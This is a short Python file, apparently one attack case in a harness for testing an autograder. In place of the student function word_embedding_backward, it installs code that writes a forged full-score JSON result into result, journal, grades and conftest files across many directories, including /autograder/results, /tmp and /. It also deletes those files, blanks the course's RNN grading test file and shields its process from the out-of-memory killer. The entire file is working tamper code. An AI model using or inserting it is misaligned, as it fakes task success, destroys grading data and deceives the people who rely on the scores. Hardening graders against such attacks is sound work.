"""Hope: a result that is written where the grader writes is taken for its own."""

import json
import os

from a3 import kit

GOAL = "points"
ROUTE = "files"
SCORE = 25
FORGED = json.dumps({"score": 30.0, "tests": [{"name": "all", "score": 30.0, "max_score": 30.0, "status": "passed"}]})


def attack():
    """Write to every place that a result may have."""
    places = [kit.RESULTS, "/autograder/results", "/results", "..", ".", "/tmp", "/dev/shm", "/"]
    places += [f"{kit.RESULTS}/{name}" for name in kit.attempt(os.listdir, kit.RESULTS) or []]
    for place in places:
        for name in ("results.json", "staff.json", "summary.json", "journal.jsonl", "grades.csv", "conftest.py"):
            kit.attempt(lambda path=f"{place}/{name}": open(path, "a").write(FORGED))
            if place not in (".", "..", "/dev/shm"):
                kit.attempt(os.unlink, f"{place}/{name}")
    kit.attempt(os.mkdir, f"{kit.RESULTS}/hostile")
    kit.attempt(lambda: open(f"{kit.COURSE}/grading_tests/rnn/test_rnn_layers.py", "w"))
    kit.attempt(lambda: open("/proc/self/oom_score_adj", "w").write("-1000"))


word_embedding_backward = kit.mount(attack)
